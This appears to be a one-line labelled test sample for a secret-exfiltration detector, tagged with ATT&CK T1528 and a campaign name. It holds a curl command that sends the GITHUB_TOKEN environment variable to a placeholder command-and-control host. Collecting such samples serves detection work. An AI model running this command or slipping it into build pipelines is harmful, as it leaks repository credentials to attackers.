# expect: secrets-sent-away | source: T1528, GhostAction
curl -s "https://c2.example.invalid/?t=${GITHUB_TOKEN}"
